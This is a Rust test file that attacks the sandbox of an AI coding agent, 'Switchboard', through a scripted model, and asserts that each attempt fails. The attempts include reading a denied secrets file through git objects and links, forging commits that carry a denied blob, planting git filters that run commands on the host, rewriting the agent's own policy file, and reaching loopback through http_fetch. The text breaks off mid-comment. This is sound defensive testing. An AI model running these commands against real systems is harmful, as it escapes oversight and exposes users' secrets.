//! The agent boundary, tried as an attacker would, through the binary: an `openai` agent whose
//! model (scripted, on loopback) calls the tools under a permissive but legitimate policy (the
//! org allows `shell.exec`, `fs.*` and the git actions it names; grants cover the workspace),
//! in a repository whose `.switchboard/agent-policy.toml` denies `config/production-secrets.toml`.
//! The secret's two versions (the committed one and the one before it) each carry a random
//! marker; every test asserts that no marker reaches the model, a run event, the answer, the
//! run's branch or the user's checkout, and that what a run writes never governs a later run.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use common::project::{Project, SECRET, Switchboard, branch_diff, git};
use serde_json::{Value, json};
use test_support::model::{Model, Turn};

/// What the org allows in these tests: everything the attacks use, and no push.
const PERMISSIVE: &str = r#"rules = [
  { action = "shell.exec", decision = "allow" },
  { action = "fs.*", decision = "allow" },
  { action = "git.show", decision = "allow" },
  { action = "git.diff", decision = "allow" },
  { action = "git.log", decision = "allow" },
  { action = "git.cat-file", decision = "allow" },
  { action = "git.grep", decision = "allow" },
  { action = "git.blame", decision = "allow" },
  { action = "git.archive", decision = "allow" },
  { action = "git.status", decision = "allow" },
  { action = "git.commit", decision = "allow" },
  { action = "git.add", decision = "allow" },
  { action = "git.branch", decision = "allow" },
  { action = "git.update-ref", decision = "allow" },
  { action = "git.ls-tree", decision = "allow" },
]"#;

/// The same without `shell.exec` (so it asks, and an ask times out after a second).
const STRICT: &str = r#"approval_timeout_seconds = 1
rules = [
  { action = "fs.*", decision = "allow" },
  { action = "git.log", decision = "allow" },
]"#;

/// Runs `turns` as one repo run; asserts nothing of the secret got out. Returns the run's
/// record, its events and what the model was sent.
async fn attack(project: &Project, org: &str, turns: Vec<Turn>) -> (Value, String, String) {
    let model = Model::serve(turns).await;
    let sb = Switchboard::new(&model, org);
    sb.add(project);
    let (run, events) = tokio::task::spawn_blocking(move || {
        let id = sb.repo_run();
        let record = sb.record(&id);
        drop(sb);
        record
    })
    .await
    .unwrap();
    let seen = model.seen();
    project.assert_clean("the model", &seen);
    project.assert_clean("a run event", &events);
    project.assert_clean("the answer", &run.to_string());
    project.assert_untouched();
    project.assert_clean("the run's branch", &branch_diff(project, &run));
    (run, events, seen)
}

fn shell(command: &str) -> Turn {
    ("shell", json!({"command": command, "cwd": "{workspace}"}))
}

fn git_tool(subcommand: &str, args: &[&str]) -> Turn {
    (
        "git",
        json!({"subcommand": subcommand, "args": args, "cwd": "{workspace}"}),
    )
}

/// The `git` tool over the object store: `show`, `diff`, `log -p`, `cat-file`, `grep`,
/// `blame`, `archive`, each naming the denied file or the commit that rotated it.
#[tokio::test(flavor = "multi_thread")]
async fn the_git_tool_never_returns_a_denied_files_bytes() {
    let project = Project::new(true);
    let blob = git(&project.repo, &["rev-parse", &format!("HEAD:{SECRET}")]);
    let old_blob = git(&project.repo, &["rev-parse", &format!("HEAD~1:{SECRET}")]);
    let show = format!("HEAD:{SECRET}");
    let old_show = format!("HEAD~1:{SECRET}");
    let turns = vec![
        git_tool("show", &[&show]),
        git_tool("show", &[&old_show]),
        git_tool("show", &["HEAD"]),
        git_tool("diff", &["HEAD~1", "HEAD"]),
        git_tool("log", &["-p"]),
        git_tool("log", &["-p", "--all", "--", SECRET]),
        git_tool("cat-file", &["-p", &blob]),
        git_tool("cat-file", &["-p", &old_blob]),
        git_tool("grep", &["-n", "token", "HEAD"]),
        git_tool("grep", &["-n", "token", "HEAD~1"]),
        git_tool("blame", &[SECRET]),
        git_tool("archive", &["HEAD"]),
    ];
    attack(&project, PERMISSIVE, turns).await;
}

/// The same through `shell`, and the object store read by hand.
#[tokio::test(flavor = "multi_thread")]
async fn shell_never_reaches_a_denied_files_bytes_through_git() {
    let project = Project::new(true);
    let blob = git(&project.repo, &["rev-parse", &format!("HEAD:{SECRET}")]);
    let turns = vec![
        shell(&format!("git show HEAD:{SECRET}; git show HEAD~1:{SECRET}")),
        shell("git log -p --all | tail -c 20000"),
        shell(&format!("git cat-file -p {blob}")),
        shell("git cat-file --batch-all-objects --batch | grep -a token"),
        shell(
            "for f in $(find .git -type f); do cat \"$f\"; done | tr -cd '[:print:]' | tail -c 30000",
        ),
        shell("git archive HEAD~1 | tar -xO"),
        shell(&format!(
            "cat {SECRET}; cat /proc/self/environ; ls -la /tmp"
        )),
    ];
    attack(&project, PERMISSIVE, turns).await;
}

/// What names a denied file without its bytes: its blob's id, in every listing a run can
/// make (`ls-tree`, `ls-files -s`, `log --raw`, `rev-parse`, the object store's own list).
/// An id is the hash of the bytes, so a short secret (a PIN, a word) falls to a guess
/// checked against it; no id of a denied file's version reaches the model.
#[tokio::test(flavor = "multi_thread")]
async fn a_denied_files_blob_id_never_reaches_the_run() {
    let project = Project::new(true);
    let blobs = [
        git(&project.repo, &["rev-parse", &format!("HEAD:{SECRET}")]),
        git(&project.repo, &["rev-parse", &format!("HEAD~1:{SECRET}")]),
    ];
    let turns = vec![
        shell("git ls-tree -r HEAD; git ls-files -s; git log --raw --no-abbrev --all"),
        shell(&format!(
            "git rev-parse HEAD:{SECRET}; git cat-file --batch-all-objects --batch-check"
        )),
        shell(
            "git ls-tree -r HEAD config; git cat-file -p HEAD^{tree}; git diff --raw --no-abbrev HEAD",
        ),
        git_tool("ls-tree", &["-r", "HEAD"]),
        git_tool("log", &["--raw", "--no-abbrev"]),
    ];
    let (_, events, seen) = attack(&project, PERMISSIVE, turns).await;
    assert!(seen.contains("src/control.txt"), "{seen}");
    // Nor the base commit's id, which hashes the root tree: with the rest of the commit known
    // it checks a guess as the blob's id would.
    for blob in blobs.iter().chain([&project.head]) {
        let short = &blob[..7];
        assert!(
            !seen.contains(short),
            "a denied file's blob id reached the model: {seen}"
        );
        assert!(
            !events.contains(short),
            "a denied file's blob id reached an event"
        );
    }
}

/// A policy that denies the secret under another spelling (letter case, a trailing dot) than
/// the repository's: on a case-insensitive checkout it names the file, here it would cover
/// nothing, so no run starts under it and the model never reads the file.
#[tokio::test(flavor = "multi_thread")]
async fn a_deny_name_spelled_otherwise_than_the_file_starts_no_run() {
    for spelling in [
        "Config/Production-Secrets.toml",
        "config/production-secrets.toml.",
    ] {
        let mut project = Project::new(true);
        std::fs::write(
            project.repo.join(".switchboard/agent-policy.toml"),
            format!("deny_read = [\"{spelling}\"]\n"),
        )
        .unwrap();
        git(
            &project.repo,
            &["commit", "-q", "-am", "deny by another name"],
        );
        project.head = git(&project.repo, &["rev-parse", "HEAD"]);
        let model = Model::serve(vec![shell(&format!("cat {SECRET}"))]).await;
        let sb = Switchboard::new(&model, PERMISSIVE);
        sb.add(&project);
        let out = tokio::task::spawn_blocking(move || sb.run(&["repo", "test", "acme/web"]))
            .await
            .unwrap();
        let said = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            said.contains("is spelled otherwise in the repository"),
            "{said}"
        );
        assert_eq!(model.seen(), "", "the model was asked");
        project.assert_untouched();
    }
}

/// A renamed directory, then the file read through its new name by `shell` and `read_file`.
#[tokio::test(flavor = "multi_thread")]
async fn a_rename_or_link_never_reaches_a_denied_file() {
    let project = Project::new(true);
    let turns = vec![
        shell("mv config c2; cat c2/production-secrets.toml; ls -la . c2"),
        (
            "read_file",
            json!({"path": "{workspace}/c2/production-secrets.toml"}),
        ),
        shell(&format!(
            "ln {SECRET} hard; cp {SECRET} copy; cat hard copy"
        )),
        ("read_file", json!({"path": "{workspace}/copy"})),
        shell(&format!(
            "ln -s {}/{SECRET} escape; cat escape",
            project.repo.display()
        )),
        ("read_file", json!({"path": "{workspace}/escape"})),
    ];
    attack(&project, PERMISSIVE, turns).await;
}

/// A marker as the shell reads it but not as it is written (`MARK''ER…`): the sweep's own
/// command must not carry it to the model.
fn split(marker: &str) -> String {
    let (head, tail) = marker.split_at(4);
    format!("'{head}''{tail}'")
}

/// A sweep inside the sandbox: everything readable (the working tree, `.git` with its objects
/// decompressed, `/tmp`, `/proc/self`) searched for the markers.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_readable_inside_the_sandbox_holds_a_denied_files_bytes() {
    let project = Project::new(true);
    let sweep = format!(
        "{{ git cat-file --batch-all-objects --batch 2>&1; \
           for f in $(find . /tmp /etc -type f 2>/dev/null); do cat \"$f\" 2>/dev/null; done; \
           for f in environ cmdline status mountinfo mounts maps limits cgroup comm; do cat /proc/self/$f 2>/dev/null; done; \
           python3 -c 'import zlib,glob,sys\nfor p in glob.glob(\".git/objects/**/*\", recursive=True):\n  try: sys.stdout.buffer.write(zlib.decompress(open(p,\"rb\").read()))\n  except Exception: pass' 2>/dev/null; \
         }} > /tmp/sweep; echo \"denied: $(grep -a -c -e {} -e {} /tmp/sweep)\"; \
         echo \"control: $(grep -a -c {} /tmp/sweep)\"",
        split(&project.markers[0]),
        split(&project.markers[1]),
        split(&project.control),
    );
    let (_, events, _) = attack(&project, PERMISSIVE, vec![shell(&sweep)]).await;
    assert!(
        events.contains("denied: 0\\n"),
        "the sweep found a denied file's bytes: {events}"
    );
    // The same sweep finds a committed file's marker, in the tree and in the objects: it reads
    // what it claims to.
    let control: usize = events
        .split("control: ")
        .nth(1)
        .and_then(|rest| rest.split("\\n").next())
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(
        control >= 2,
        "the sweep did not see the control file: {events}"
    );
}

/// A repo with no policy file: a run writes one allowing `shell.exec` and `git.push`; another
/// moves its `.switchboard` aside and writes an empty deny list. Neither governs a later run:
/// the policy is the committed one.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_a_run_writes_governs_a_later_run() {
    // No policy committed: the run writes one.
    let project = Project::new(false);
    let written = "mkdir -p .switchboard && printf '[policy]\\nrules = [{ action = \"git.push\", decision = \"allow\" }, { action = \"shell.exec\", decision = \"allow\" }]\\n' > .switchboard/agent-policy.toml; cat .switchboard/agent-policy.toml";
    attack(&project, PERMISSIVE, vec![shell(written)]).await;
    // The later run's org names no shell.exec: the committed policy (none) leaves it `ask`,
    // which nobody answers within the second the org gives it.
    let (_, events, seen) = attack(
        &project,
        STRICT,
        vec![shell("echo ran"), git_tool("push", &["origin", "main"])],
    )
    .await;
    assert!(
        seen.contains("refused: shell.exec needs a person's approval"),
        "a later run obeyed a policy a run wrote: {events}"
    );
    assert!(!seen.contains("ran\\n"), "{seen}");

    // A committed policy: a run replaces the directory that holds it.
    let project = Project::new(true);
    let replace = "mv .switchboard .old; mkdir -p .switchboard; printf 'deny_read = []\\n' > .switchboard/agent-policy.toml; ls -la .switchboard .old";
    attack(&project, PERMISSIVE, vec![shell(replace)]).await;
    let (_, _, seen) = attack(
        &project,
        PERMISSIVE,
        vec![
            (
                "read_file",
                json!({"path": format!("{{workspace}}/{SECRET}")}),
            ),
            shell(&format!("cat {SECRET}")),
        ],
    )
    .await;
    assert!(seen.contains("is denied by this project"), "{seen}");
}

/// A run that force-moves `main` (and writes objects) changes nothing the next run sees.
#[tokio::test(flavor = "multi_thread")]
async fn a_run_cannot_move_a_ref_outside_its_own_branch() {
    let project = Project::new(true);
    let turns = vec![
        shell(
            "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m evil && git branch -f main HEAD && git update-ref refs/heads/main HEAD && git log --oneline -3 main",
        ),
        git_tool("branch", &["-f", "main", "HEAD~1"]),
    ];
    attack(&project, PERMISSIVE, turns).await;
    let (_, _, seen) = attack(
        &project,
        PERMISSIVE,
        vec![git_tool("log", &["--format=%s", "-1"])],
    )
    .await;
    assert!(seen.contains("rotate the token"), "{seen}");
    assert!(!seen.contains("evil"), "{seen}");
}

/// A flood of output is cut while it streams: the run ends promptly with its answer cut.
#[tokio::test(flavor = "multi_thread")]
async fn a_flood_of_output_is_cut_and_its_program_stopped() {
    let project = Project::new(true);
    let (run, _, seen) = attack(
        &project,
        PERMISSIVE,
        // `fin''ished`: the word is in the output only if the program ran to its end.
        vec![shell(
            "head -c 300000000 /dev/zero | tr '\\\\0' x; echo fin''ished",
        )],
    )
    .await;
    assert_eq!(run["status"], "completed", "{run}");
    assert!(
        seen.contains("[cut at 65536 bytes; the program was stopped]"),
        "{}",
        &seen[..seen.len().min(2000)]
    );
    assert!(!seen.contains("finished"), "the program ran to its end");
}

/// A run that knows a denied file's blob only by its hash commits it under another name, and
/// points its object store at the user's: nothing of it reaches the run's branch (a kept
/// change must refer to an object the run itself has; alternates are never read).
#[tokio::test(flavor = "multi_thread")]
async fn a_commit_naming_a_denied_blob_by_hash_is_never_kept() {
    let project = Project::new(true);
    // The run never sees the id (the test above); an attacker may know it from elsewhere.
    let secret_blob = git(&project.repo, &["rev-parse", &format!("HEAD:{SECRET}")]);
    let forge = format!(
        "echo {objects} > .git/objects/info/alternates; \
         blob={secret_blob}; \
         tree=$( (git ls-tree HEAD; printf '100644 blob %s\\tleak.txt\\n' $blob) | git mktree --missing); \
         c=$(git -c user.name=a -c user.email=a@b commit-tree $tree -p HEAD -m leak); \
         git update-ref $(git symbolic-ref HEAD) $c; git log --oneline -2",
        objects = project.repo.join(".git/objects").display()
    );
    let (run, events, _) = attack(&project, PERMISSIVE, vec![shell(&forge)]).await;
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    assert!(
        git(&project.repo, &["ls-tree", "-r", "--name-only", &branch])
            .lines()
            .all(|p| p != "leak.txt"),
        "the forged entry reached the branch"
    );
    assert!(
        events.contains("names a denied file's contents; nothing of the run was kept"),
        "{events}"
    );
    // A blob the run has never had, by any hash: refused for that, too.
    let absent = "tree=$( (git ls-tree HEAD; printf '100644 blob %s\\tghost.txt\\n' 1234567890123456789012345678901234567890) | git mktree --missing); \
         c=$(git -c user.name=a -c user.email=a@b commit-tree $tree -p HEAD -m ghost); \
         git update-ref $(git symbolic-ref HEAD) $c";
    let (_, events, _) = attack(&project, PERMISSIVE, vec![shell(absent)]).await;
    assert!(
        events.contains("refers to an object it does not have"),
        "{events}"
    );
}

/// An HTTP server on loopback that answers `reached` and counts the requests it got.
async fn counting_server() -> (u16, Arc<AtomicUsize>) {
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = hits.clone();
    let app = axum::Router::new().fallback(move || {
        let counted = counted.clone();
        async move {
            counted.fetch_add(1, Ordering::SeqCst);
            "reached"
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (port, hits)
}

/// `http_fetch` reaches only what its grant names: a name that resolves to loopback is refused
/// under a grant for that name, the address itself is reached under a grant naming it, and a
/// proxy in the server's environment is never used.
#[tokio::test(flavor = "multi_thread")]
async fn http_fetch_reaches_only_the_address_its_grant_names() {
    let (port, hits) = counting_server().await;
    let (proxy_port, proxied) = counting_server().await;
    // The model elsewhere on loopback, so the proxy below is bypassed for it alone.
    let model = Model::serve_at(
        "127.0.0.2",
        vec![
            (
                "http_fetch",
                json!({"url": format!("http://localhost:{port}/")}),
            ),
            (
                "http_fetch",
                json!({"url": format!("http://127.0.0.1:{port}/")}),
            ),
        ],
    )
    .await;
    // One grant names the host name, the other the address.
    let fetch = "[[agent_grants]]\nid = \"by-name\"\ntool = \"http_fetch\"\nhosts = [\"localhost\"]\nmode = \"auto\"\n\
                 [[agent_grants]]\nid = \"by-address\"\ntool = \"http_fetch\"\nhosts = [\"127.0.0.1\"]\nmode = \"auto\"\n";
    let org = "rules = [{ action = \"net.fetch\", decision = \"allow\" }]";
    let sb = Switchboard::with_agents(&[("coding", &model)], org, fetch);
    let proxy = format!("http://127.0.0.1:{proxy_port}");
    let out = tokio::task::spawn_blocking(move || {
        Command::new(env!("CARGO_BIN_EXE_switchboard"))
            .arg("--config")
            .arg(sb.dir.path().join("switchboard.toml"))
            .args(["ask", "fetch it"])
            .env("HTTP_PROXY", &proxy)
            .env("http_proxy", &proxy)
            .env("ALL_PROXY", &proxy)
            .env("NO_PROXY", "127.0.0.2")
            .env("no_proxy", "127.0.0.2")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen = model.seen();
    assert!(
        seen.contains("refused: localhost resolves to 127.0.0.1, an internal address"),
        "{seen}\n{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("last tool result: HTTP 200 OK\nreached")
    );
    assert_eq!(
        hits.load(Ordering::SeqCst),
        1,
        "the address's grant reached it, the name's did not"
    );
    assert_eq!(proxied.load(Ordering::SeqCst), 0, "a proxy was used");
}

/// A run leaves a nested repository whose own config names a filter, tracked as a submodule:
/// keeping the run's changes reads its working tree with git, which asks the nested
/// repository's status and so runs the filter. It runs in a sandbox, never on the host.
#[tokio::test(flavor = "multi_thread")]
async fn keeping_a_runs_changes_never_runs_what_its_files_name() {
    let project = Project::new(true);
    let host = tempfile::tempdir().unwrap();
    let pwned = host.path().join("pwned");
    let plant = format!(
        "mkdir sub && cd sub && git init -q && git config filter.x.clean \"sh -c 'touch {pwned}; cat'\" && \
         echo '* filter=x' > .gitattributes && echo a > f && git add -A && \
         git -c user.name=a -c user.email=b commit -qm s && cd .. && git add sub && echo b > sub/f; \
         printf 'gitdir: {repo}/.git\\n' > other; mkdir linked && mv other linked/.git; git status --short | head",
        pwned = pwned.display(),
        repo = project.repo.display(),
    );
    attack(&project, PERMISSIVE, vec![shell(&plant)]).await;
    assert!(!pwned.exists(), "a filter the run wrote ran on the host");
}

/// `write_file` never writes through a link the run planted, at its target or anywhere it
/// might write on the way.
#[tokio::test(flavor = "multi_thread")]
async fn write_file_never_writes_through_a_planted_link() {
    let project = Project::new(true);
    let host = tempfile::tempdir().unwrap();
    let target = host.path().join("written");
    let plant = format!(
        "ln -s {t} .notes.md.switchboard-write; ln -s {t} notes.md; ls -la",
        t = target.display()
    );
    let (_, _, seen) = attack(
        &project,
        PERMISSIVE,
        vec![
            shell(&plant),
            (
                "write_file",
                json!({"path": "{workspace}/notes.md", "content": "x"}),
            ),
            (
                "write_file",
                json!({"path": "{workspace}/other.md", "content": "y"}),
            ),
        ],
    )
    .await;
    assert!(!target.exists(), "a write went through a planted link");
    assert!(
        seen.contains("is a symbolic link; write_file does not follow links"),
        "{seen}"
    );
}

/// A run swaps its `.git/objects` for a link to the user's objects and stages a denied blob
/// under another name: nothing of it is kept (a link is never followed, and a denied blob is
/// never kept under any name).
#[tokio::test(flavor = "multi_thread")]
async fn a_linked_object_store_never_carries_a_denied_blob_to_the_branch() {
    let project = Project::new(true);
    let swap = format!(
        "blob=$(git rev-parse HEAD:{SECRET}); \
         git update-index --add --cacheinfo 100644,$blob,leak.txt && git update-index --skip-worktree leak.txt; \
         mv .git/objects .git/objects.real && ln -s {objects} .git/objects; ls -la .git",
        objects = project.repo.join(".git/objects").display()
    );
    let (run, _, _) = attack(&project, PERMISSIVE, vec![shell(&swap)]).await;
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    assert_eq!(git(&project.repo, &["rev-parse", &branch]), project.head);
}

/// A FIFO in the workspace: `read_file` refuses it at once instead of waiting on it forever.
#[tokio::test(flavor = "multi_thread")]
async fn read_file_refuses_what_is_not_a_regular_file() {
    let project = Project::new(true);
    let (run, _, seen) = attack(
        &project,
        PERMISSIVE,
        vec![
            shell("mkfifo pipe && ls -la pipe"),
            ("read_file", json!({"path": "{workspace}/pipe"})),
        ],
    )
    .await;
    assert_eq!(run["status"], "completed", "{run}");
    assert!(seen.contains("is not a regular file"), "{seen}");
}

/// A run moves the directory a stub is mounted in and leaves a link to a host directory in
/// its place: the next sandbox refuses to start rather than have bubblewrap follow the link.
#[tokio::test(flavor = "multi_thread")]
async fn a_link_in_a_stubs_place_stops_the_next_sandbox() {
    let project = Project::new(true);
    let host = tempfile::tempdir().unwrap();
    let steer = format!(
        "mv config config2; ln -s {} config; ls -la",
        host.path().display()
    );
    let (_, _, seen) = attack(
        &project,
        PERMISSIVE,
        vec![shell(&steer), shell("echo second call")],
    )
    .await;
    assert!(
        !host.path().join("production-secrets.toml").exists(),
        "the stub's mount made a file on the host"
    );
    assert!(seen.contains("must be a directory, not a link"), "{seen}");
}

/// An abbreviated option git would expand to one the git tool refuses is refused by git.
#[tokio::test(flavor = "multi_thread")]
async fn the_git_tool_refuses_abbreviated_options() {
    let project = Project::new(true);
    let (_, _, seen) = attack(
        &project,
        PERMISSIVE,
        vec![
            git_tool("grep", &["--open-files=touch pwned", "token"]),
            shell("ls pwned"),
        ],
    )
    .await;
    assert!(
        seen.contains("disallowed abbreviated or ambiguous option"),
        "{seen}"
    );
    assert!(seen.contains("No such file"), "{seen}");
}

/// A run rewrites one of its own object files so a base subtree reads with a denied blob in
/// it, then commits on top: git does not re-hash a loose object it reads, so the run's copy
/// of the base says what the run wants. The base repository's own objects decide what is
/// kept, and a denied blob under another name refuses the branch.
#[tokio::test(flavor = "multi_thread")]
async fn a_forged_base_tree_never_carries_a_denied_blob_to_the_branch() {
    let project = Project::new(true);
    let secret_blob = git(&project.repo, &["rev-parse", &format!("HEAD:{SECRET}")]);
    let forge = format!(
        "set -e; sec={secret_blob}; s=$(git rev-parse HEAD:src); lst=$(git ls-tree HEAD:src); \
         mkdir -p /tmp/p; mv .git/objects/pack/* /tmp/p/; for p in /tmp/p/*.pack; do git unpack-objects -q < $p; done; \
         f=$( (echo \"$lst\"; printf '100644 blob %s\\tleak.txt\\n' $sec) | git mktree --missing); \
         obj() {{ echo .git/objects/$(echo $1 | cut -c1-2)/$(echo $1 | cut -c3-); }}; \
         rm -f $(obj $s); cp $(obj $f) $(obj $s); \
         n=$(printf 'notes\\n' | git hash-object -w --stdin); \
         t=$( (echo \"$lst\"; printf '100644 blob %s\\tleak.txt\\n100644 blob %s\\tnotes.txt\\n' $sec $n) | git mktree --missing); \
         root=$( (git ls-tree HEAD | grep -v 'src$'; printf '040000 tree %s\\tsrc\\n' $t) | git mktree --missing); \
         c=$(git -c user.name=a -c user.email=b commit-tree $root -p HEAD -m notes); \
         git update-ref $(git symbolic-ref HEAD) $c; git cat-file -p $s | tail -2"
    );
    let before = object_files(&project.repo);
    let (run, events, _) = attack(&project, PERMISSIVE, vec![shell(&forge)]).await;
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    assert_eq!(
        git(&project.repo, &["rev-parse", &branch]),
        project.head,
        "{events}"
    );
    assert!(events.contains("nothing of the run was kept"), "{events}");
    // Refused in a quarantine: not one object of the run (the forged tree naming the denied
    // blob under a new name among them) was left in the user's repository.
    assert_eq!(object_files(&project.repo), before);
}

/// Every file under a repository's `.git/objects`, by its path there.
fn object_files(repo: &std::path::Path) -> Vec<String> {
    let top = repo.join(".git/objects");
    let mut found = Vec::new();
    let mut dirs = vec![top.clone()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                dirs.push(path);
            } else {
                found.push(path.strip_prefix(&top).unwrap().display().to_string());
            }
        }
    }
    found.sort();
    found
}

/// A repo whose path is a run's own workspace is never a base: what a run wrote is not the
/// user's history (its alternates could name the user's objects).
#[tokio::test(flavor = "multi_thread")]
async fn a_runs_workspace_is_never_a_repo() {
    let model = Model::serve(vec![]).await;
    let sb = Switchboard::new(&model, PERMISSIVE);
    let inside = sb.data().join("runs/01JSOMEWHERE/work");
    std::fs::create_dir_all(&inside).unwrap();
    git(&inside, &["init", "-q"]);
    git(&inside, &["commit", "-q", "--allow-empty", "-m", "x"]);
    let added = sb.run(&[
        "repo",
        "add",
        "acme/own",
        "--path",
        inside.to_str().unwrap(),
    ]);
    assert!(added.status.success());
    let out = sb.run(&["ask", "--agent", "echo", "--repo", "acme/own", "hi"]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("inside Switchboard's data directory"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The org's rules for a run that may not run programs: `shell.exec` is denied, the file
/// tools and every git action allowed.
const NO_SHELL: &str = r#"rules = [
  { action = "shell.exec", decision = "deny" },
  { action = "fs.*", decision = "allow" },
  { action = "git.*", decision = "allow" },
]"#;

/// With `shell.exec` denied, the `git` tool never runs a program: a run builds a nested
/// repository in its working tree (a gitlink whose `.git` file points at a directory whose
/// `config` it wrote, naming `diff.external` and a clean filter) and asks git to enter it,
/// by `--submodule=diff` and by a plain `status` and `diff` (which look inside a modified
/// submodule). Nothing it named ever runs.
#[tokio::test(flavor = "multi_thread")]
async fn the_git_tool_never_enters_a_nested_repository_the_run_built() {
    let project = Project::new(true);
    let write = |path: &str, content: &str| {
        (
            "write_file",
            json!({"path": format!("{{workspace}}/{path}"), "content": content}),
        )
    };
    let pwned = "{workspace}/PWNED-by-git-tool";
    let config = format!(
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\
         [diff]\n\texternal = \"id > {pwned}; :\"\n\
         [filter \"pwn\"]\n\tclean = \"id > {pwned}; cat\"\n"
    );
    let mut turns = vec![
        write("f", "1\n"),
        git_tool("add", &["f"]),
        git_tool("commit", &["-m", "c1"]),
        write("f", "2\n"),
        git_tool("add", &["f"]),
        git_tool("commit", &["-m", "c2"]),
    ];
    for place in [
        "nest",
        "nest/objects",
        "nest/refs",
        "nest/objects/info",
        "sub",
    ] {
        turns.push(git_tool("mv", &["src", place]));
        turns.push(git_tool("checkout", &["HEAD", "--", "src"]));
    }
    turns.extend([
        write("nest/objects/info/alternates", "{workspace}/.git/objects\n"),
        write("nest/config", &config),
        write("sub/.git", "gitdir: ../nest\n"),
        git_tool("rev-parse", &["HEAD~1"]),
        write("nest/HEAD", "{last_hex}\n"),
        git_tool("rm", &["-r", "-q", "--cached", "sub"]),
        git_tool("add", &["sub"]),
        git_tool("rev-parse", &["HEAD"]),
        write("nest/HEAD", "{last_hex}\n"),
        git_tool("diff", &["--submodule=diff"]),
        ("read_file", json!({"path": pwned})),
        write("sub/.gitattributes", "* filter=pwn\n"),
        write("sub/lib.rs", "changed\n"),
        git_tool("status", &[]),
        git_tool("diff", &[]),
        git_tool("diff", &["HEAD"]),
        git_tool("stash", &[]),
        ("read_file", json!({"path": pwned})),
    ]);
    let (_, events, seen) = attack(&project, NO_SHELL, turns).await;
    assert!(
        seen.contains("enters a nested repository"),
        "--submodule was not refused: {seen}"
    );
    for text in [&seen, &events] {
        assert!(
            !text.contains("uid="),
            "a program the run named ran: {text}"
        );
    }
}

/// A run that nests directories 30,000 deep is removed when it ends, and the process goes on:
/// removing a workspace holds one directory at a time (the recursive removal overflowed the
/// worker's stack, and every later start crashed on the same leftover).
#[tokio::test(flavor = "multi_thread")]
async fn a_workspace_nested_beyond_any_stack_is_removed_and_the_next_run_starts() {
    let project = Project::new(true);
    // A shell's `cd` builds the whole path (past PATH_MAX it fails); python's is relative.
    let deep = "python3 -c \"import os\nfor i in range(30000):\n  os.mkdir('d'); os.chdir('d')\nprint('levels', i + 1)\"";
    let model = Model::serve(vec![shell(deep)]).await;
    let sb = Switchboard::new(&model, PERMISSIVE);
    sb.add(&project);
    let (first, second, left) = tokio::task::spawn_blocking(move || {
        let first = sb.repo_run();
        let second = sb.repo_run();
        // Read while the data directory still exists (it goes with `sb`).
        let left: Vec<_> = std::fs::read_dir(sb.data().join("runs"))
            .unwrap()
            .flatten()
            .map(|e| e.path())
            .collect();
        (first, second, left)
    })
    .await
    .unwrap();
    assert!(model.seen().contains("levels 30000"), "{}", model.seen());
    assert_ne!(first, second);
    assert!(left.is_empty(), "workspaces left: {left:?}");
}

/// A loose tree object of `size` bytes (one entry with a huge name, zlib at level 9, a few
/// hundred KB on disk), written inside the sandbox by a script the test model runs. `new`
/// names it by its hash and commits it on the run's branch; `as-root` stores it under the
/// base's root tree's name instead (git never hashes an object it reads again), with the
/// run's pack removed so that name finds it.
fn inflating_tree(size: u64, mode: &str) -> String {
    format!(
        r#"python3 - {size} {mode} <<'PY'
import zlib, hashlib, os, sys, subprocess, glob
SIZE, MODE = int(sys.argv[1]), sys.argv[2]
git = lambda *a: subprocess.check_output(["git", *a]).strip().decode()
blob, root, base = git("rev-parse", "HEAD:README.md"), git("rev-parse", "HEAD^{{tree}}"), git("rev-parse", "HEAD")
tail = b"\0" + bytes.fromhex(blob)
hdr = b"tree %d\0" % SIZE
h = hashlib.sha1(); c = zlib.compressobj(9)
out = open(".git/objects/tmpbig", "wb")
def put(b):
    h.update(b); out.write(c.compress(b))
put(hdr); put(b"100644 ")
chunk = b"a" * (1 << 22); left = SIZE - 7 - len(tail)
while left > 0:
    n = min(left, len(chunk)); put(chunk[:n]); left -= n
put(tail); out.write(c.flush()); out.close()
oid = h.hexdigest() if MODE == "new" else root
if MODE == "as-root":
    for f in glob.glob(".git/objects/pack/*"): os.remove(f)
d = ".git/objects/" + oid[:2]
os.makedirs(d, exist_ok=True); os.replace(".git/objects/tmpbig", d + "/" + oid[2:])
print("tree", oid, os.path.getsize(d + "/" + oid[2:]), "bytes on disk")
if MODE == "new":
    body = "tree %s\nparent %s\nauthor a <a@b> 0 +0000\ncommitter a <a@b> 0 +0000\n\nbig\n" % (oid, base)
    commit = subprocess.run(["git","hash-object","-t","commit","-w","--literally","--stdin"], input=body.encode(), capture_output=True).stdout.strip().decode()
    subprocess.check_call(["git","update-ref",git("symbolic-ref","HEAD"),commit]); print("commit", commit)
PY
ls -la .git/objects"#
    )
}

/// A run writes a correctly hashed loose tree that inflates to 200 MB (its file on disk is a
/// few hundred KB) and commits it; another stores such a tree under the base's own root
/// tree's name. No git on the host ever inflates either (a 2 GB one made one `diff-tree`
